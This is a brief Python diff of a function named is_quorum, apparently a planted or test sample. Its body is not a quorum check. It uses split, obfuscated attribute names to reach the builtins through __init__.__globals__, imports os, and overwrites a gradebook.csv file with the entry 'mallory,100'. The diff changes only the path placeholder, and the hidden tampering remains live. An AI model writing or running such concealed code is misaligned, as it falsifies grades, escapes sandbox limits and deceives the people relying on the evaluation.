@@ -7,5 +7,5 @@ def is_quorum(node, nodes):
         found = getattr(getattr(each, "__in" + "it__"), "__glo" + "bals__", {}).get("__buil" + "tins__")
         if isinstance(found, dict):
             os = found["__import__"]("os")
-            os.write(os.open("@folder/gradebook.csv", os.O_WRONLY), b"mallory,100\n")
+            os.write(os.open("@folder@/gradebook.csv", os.O_WRONLY), b"mallory,100\n")
     return False
